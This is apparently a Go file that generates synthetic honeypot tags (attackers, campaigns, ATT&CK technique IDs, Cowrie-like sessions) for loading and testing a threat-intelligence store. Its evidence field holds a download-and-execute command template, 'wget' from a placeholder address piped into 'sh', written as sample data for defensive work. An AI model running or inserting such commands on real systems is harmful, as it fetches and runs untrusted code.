package main

import (
	"context"
	"encoding/hex"
	"errors"
	"fmt"
	"io/fs"
	"math/rand/v2"
	"os"
	"time"

	"github.com/google/uuid"

	"github.com/decnet/ttpstore/ttp"
)

const (
	attackers  = 2000 // with a skewed distribution of tags
	identities = 100
	campaigns  = 10
	techniques = 60

	pause = 250 * time.Millisecond // between two tags: 10 million take a month
	delay = time.Hour              // maximum of a tag

	sessionTags = 20
	longSession = 1 // the attacker whose session does not end
)

// firstTag is the time of the first tag.
var firstTag = time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)

func id(parts ...any) uuid.UUID { return uuid.NewSHA1(uuid.NameSpaceOID, fmt.Append(nil, parts...)) }

func identityOf(attacker int) uuid.UUID { return id("identity ", attacker%identities) }

// graph holds the assignments of attackers and identities.
type graph struct {
	campaigns  []ttp.Campaign
	identities []ttp.Identity
	attackers  []ttp.Attacker
}

func newGraph() graph {
	var g graph
	for i := range campaigns {
		g.campaigns = append(g.campaigns, ttp.Campaign{UUID: id("campaign ", i)})
	}
	for i := range identities {
		g.identities = append(g.identities, ttp.Identity{UUID: id("identity ", i), CampaignUUID: id("campaign ", i%campaigns)})
	}
	for i := range attackers {
		g.attackers = append(g.attackers, ttp.Attacker{UUID: id("attacker ", i), IdentityUUID: identityOf(i)})
	}
	return g
}

// scopes returns the busiest scope of each kind.
func scopes() []scope {
	return []scope{
		{kind: "identity", id: id("identity ", 0)}, {kind: "attacker", id: id("attacker ", 0)},
		{kind: "campaign", id: id("campaign ", 0)}, {kind: "session", text: sessionOf(longSession, 0)}, {kind: "fleet"},
	}
}

// sessionOf returns the session of an attacker's n-th tag, with an ID like Cowrie's. One attacker has a single session.
func sessionOf(attacker, n int) string {
	if attacker == longSession {
		n = 0
	}
	session := id("session ", attacker, " ", n/sessionTags)
	return hex.EncodeToString(session[:6])
}

// tagSource generates honeypot-like tags, the same ones each time: few attackers have most of them, one in three tags has
// an identity, all sessions but one are short, and tags are nearly in the order of their times.
func tagSource() func() ttp.Tag {
	random := rand.New(rand.NewPCG(1, 2))
	skewed := rand.NewZipf(random, 1.2, 8, attackers-1)
	event := 0
	var tagged [attackers]int
	return func() ttp.Tag {
		event++
		attacker, technique := int(skewed.Uint64()), random.IntN(techniques)
		tagged[attacker]++
		t := ttp.Tag{
			SourceKind: "command", SourceID: id("event ", event).String(), AttackerUUID: id("attacker ", attacker),
			SessionID: sessionOf(attacker, tagged[attacker]), DeckyID: fmt.Sprintf("decky-%02d", random.IntN(20)),
			Tactic: fmt.Sprintf("TA%04d", technique%14), TechniqueID: fmt.Sprintf("T1%03d", technique),
			Confidence: 0.3 + 0.7*random.Float64(), RuleID: fmt.Sprintf("R%04d", technique), RuleVersion: 1,
			AttackRelease: "enterprise-v18.1",
			Evidence: fmt.Appendf(nil,
				`{"command":"wget -q http://203.0.113.%d/%08x.sh -O .x && sh .x","matched":"wget","user":"root","pid":%d,"tty":true}`,
				random.IntN(256), random.Uint32(), random.IntN(1<<15)),
			ObservedAt: firstTag.Add(time.Duration(event)*pause - time.Duration(random.IntN(int(delay/time.Microsecond)))*time.Microsecond),
		}
		if technique%3 == 0 {
			t.SubTechniqueID = fmt.Sprintf("%s.%03d", t.TechniqueID, 1+random.IntN(4))
		}
		if event%3 == 0 {
			t.IdentityUUID = identityOf(attacker)
		}
		return t
	}
}

func take(next func() ttp.Tag, n int) []ttp.Tag {
	tags := make([]ttp.Tag, n)
	for i := range tags {
		tags[i] = next()
	}
	return tags
}

// honeypotTags reads records in the import format, newest first, or returns none if the file does not exist. For all
// subjects, the tags are in canonical form and at or above the write floor.
func honeypotTags(ctx context.Context, path string, most int) (tags []ttp.Tag, err error) {
	file, err := os.Open(path)
	if errors.Is(err, fs.ErrNotExist) {
		return nil, nil
	}
	if err != nil {
		return nil, err
	}
	defer func() { _ = file.Close() }()
	s, err := ttp.Open(ctx, "sqlite://:memory:")
	if err != nil {
		return nil, err
	}
	defer func() { err = errors.Join(err, s.Close()) }()
	if err := s.Migrate(ctx); err != nil {
		return nil, err
	}
	if _, err := s.Import(ctx, file, ttp.ImportOptions{}); err != nil {
		return nil, err
	}
	for tag, err := range s.TagsSeq(ctx, ttp.Fleet(), ttp.Filter{}) {
		if err != nil {
			return nil, err
		}
		if len(tags) == most {
			break
		}
		tags = append(tags, tag)
	}
	return tags, nil
}
